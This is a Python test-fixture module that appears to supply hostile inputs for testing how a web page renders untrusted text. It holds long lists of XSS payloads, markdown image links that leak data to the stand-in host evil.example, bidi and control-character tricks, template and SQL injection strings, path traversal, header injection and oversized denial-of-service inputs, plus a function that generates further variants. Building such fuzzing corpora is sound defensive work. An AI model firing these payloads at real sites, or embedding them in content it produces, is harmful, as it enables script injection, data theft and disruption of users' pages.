"""Texts that want to be more than text: script, markup, links, pictures, directions, and sizes.

- `PLAIN` are the forms that are known to work against pages which forget something. `varied` makes as many others of
  them as a test wants, always the same ones.
- `HEAVY` are texts whose size or depth is the attack.
- Whatever succeeds calls `alert`, asks `EVIL` for something, or leaves an element behind that no template writes.
"""

import html
import random
from collections.abc import Callable
from urllib.parse import quote

EVIL = "http://evil.example"
SEED = 20261117
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script src=//{EVIL[7:]}/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/p.png>",
    f'<img src="{EVIL}/p.png?q=secret" width=1 height=1>',
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror=alert`1`>",
    '<img src=x:x onerror="alert(1)" style="position:fixed;inset:0">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>click</text></a></svg>",
    f"<svg><use href={EVIL}/x.svg#a></use></svg>",
    f"<svg><image href={EVIL}/p.png></image></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<math href=javascript:alert(1)>click</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe src={EVIL}></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    f"<embed src={EVIL}/x.swf>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script><textarea>",
    "</title><script>alert(1)</script><title>",
    "</option></select><script>alert(1)</script>",
    "</pre></code></bdi><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<!-- unfinished",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<style>@import '{EVIL}/x.css';</style>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    f"<form action={EVIL}><button>go</button></form>",
    f"<button formaction={EVIL}>go</button>",
    '<input type=hidden name=csrf value=stolen form="decide">',
    f"<a href={EVIL} ping={EVIL}/ping>x</a>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<b id=said>clobbered</b><a id=live href=x>y</a><form id=decide></form>",
    '<img name=body><img name="cookie"><form name=ripstop><input name=get></form>',
)
ATTRIBUTES = (
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) "',
    "` onmouseover=alert(1) `",
    '" style="background:url(http://evil.example/p.png)" x="',
    '" formaction="http://evil.example" x="',
    "\" checked selected required form='decide'",
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    '/../../desk?kind="><script>alert(1)</script>',
)
MARKDOWN = (
    f"![secret]({EVIL}/p.png?q=secret)",
    f"![x]({EVIL}/p.png 'title')",
    f"![x][r]\n\n[r]: {EVIL}/p.png",
    f"[![x]({EVIL}/p.png)]({EVIL})",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"[x]({EVIL} 'a\" onmouseover=\"alert(1)')",
    f'[x]({EVIL}/"onmouseover="alert(1))',
    f"[http://bank.example]({EVIL}/phish)",
    f"<{EVIL}/auto>",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[a](http://user:pass@evil.example\\@127.0.0.1/)",
    "[a](http://[::1/)",
    "[a](http://ev\u0456l.example)",
    "# " + "#" * 50 + " heading",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
    "~~~\nnever closed <script>alert(1)</script>",
    "| <script>alert(1)</script> | ![x](http://evil.example/p) |\n|---|:-:|\n| [x](javascript:alert(1)) | <img> |",
    "> <script>alert(1)</script>\n> ![x](http://evil.example/p.png)",
    "1. <img src=x onerror=alert(1)>\n2. [x](javascript:alert(1))",
    "***bold _and ~~struck `code",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](<javascript:alert(1)>)",
    "[x]()",
    "[ ] [x] - [ ] task",
)
CHARACTERS = (
    "\u202eexe.txt\u202c gnp.tiucsid",
    "pay \u2066alice\u2069\u202e eve",
    f"all directions: {_BIDI}",
    "\x00<script>alert(1)</script>",
    "null \x00 in the middle \x00\x00",
    "bell \x07 escape \x1b[31m red \x1b]0;title\x07 backspace \x08\x08",
    "delete \x7f, C1 \x80\x9f\x85, separators \u2028\u2029",
    "zero\u200bwidth\u200cjoin\u200der\ufeffbom\u2060word",
    "tags \U000e0041\U000e0042\U000e007f hidden",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</script>",
    "\ufffe\uffff noncharacters \U0001fffe",
    "Z\u0335\u0351\u0321a\u0338l\u0337g\u0334o" + "\u0301\u0316\u0331" * 40,
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203a \u02bconmouseover=alert(1)",
    "👩‍👩‍👧‍👦 emoji \U0001f468\u200d\U0001f4bb and flags 🇨🇳",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "卐 混合 עברית العربية <script>警告(1)</script>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ shell }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{n} {by} {title} {0} {} {missing}",
    "%s %d %n %(name)s",
    "{by.__class__} {n!r:>9999}",
    "[[constructor.constructor('alert(1)')()]]",
    "'; DROP TABLE runs; --",
    "../../../../etc/passwd",
    "data: x\n\nevent: bye\ndata: {}\n\n",
    '{"next_agent": "<script>alert(1)</script>"}',
    "sk-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH and AKIAABCDEFGHIJKLMNOP",
)
PLAIN = (*MARKUP, *ATTRIBUTES, *MARKDOWN, *CHARACTERS, *TEMPLATES)

HEAVY = (
    "x" * 1_000_000,
    "> " * 10_000 + "deep",
    "<b>" * 300_000,
    "".join(f"{'  ' * depth}- deep\n" for depth in range(500)),
    "[" * 10_000 + "x" + "](y)" * 10_000,
    "*_" * 20_000 + "x",
    "`" * 10_001,
    "![" * 20_000,
    "<" * 100_000,
    "&" * 100_000,
    "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n",
    "\u202e" * 20_000,
    "\x00" * 20_000,
    "\n" * 100_000,
    "(" * 50_000 + "<script>alert(1)</script>",
)
"""A line of a megabyte, quotes inside quotes ten thousand times, and others that make a reader slow or deep."""


def varied(count: int) -> list[str]:
    """So many texts: all of `PLAIN`, and others that are made of them."""
    source = random.Random(SEED)
    found = list(dict.fromkeys(PLAIN))
    seen = set(found)
    while len(found) < count:
        text = source.choice(PLAIN)
        for change in source.sample(CHANGES, source.randint(1, 3)):
            text = change(text, source)
        if text not in seen:
            seen.add(text)
            found.append(text)
    return found[:count]


def _mixed_case(text: str, source: random.Random) -> str:
    return "".join(source.choice((char.upper(), char.lower())) for char in text)


def _sprinkled(text: str, source: random.Random) -> str:
    """With characters in it that act or are not seen."""
    unseen = f"\x00\x01\x0b\x1b\x7f\u200b\u2028{_BIDI}"
    return "".join(char + (source.choice(unseen) if source.random() < 0.1 else "") for char in text)


def _together(text: str, source: random.Random) -> str:
    return text + source.choice(("", " ", "\n", "\n\n", '"', "'>")) + source.choice(PLAIN)


CHANGES: tuple[Callable[[str, random.Random], str], ...] = (
    _mixed_case,
    _sprinkled,
    _together,
    lambda text, source: html.escape(text),
    lambda text, source: "".join(f"&#{ord(char)};" for char in text[:60]) + text[60:],
    lambda text, source: quote(text, safe="<>"),
    lambda text, source: f"[{text}]({text})",
    lambda text, source: f"![{text}]({EVIL}/{text})",
    lambda text, source: f"> {text}\n>> {text}",
    lambda text, source: f"`{text}` ``{text}``",
    lambda text, source: f"| {text} | b |\n|---|---|\n| {text} | {text} |",
    lambda text, source: f"<a href='{text}' title=\"{text}\">{text}</a>",
    lambda text, source: text[: source.randint(1, len(text))],
    lambda text, source: text[source.randint(0, len(text) - 1) :],
    lambda text, source: text[::-1],
    lambda text, source: text * source.randint(2, 4),
    lambda text, source: f"{'> ' * source.randint(2, 60)}{text}",
    lambda text, source: f"{text}\\",
)
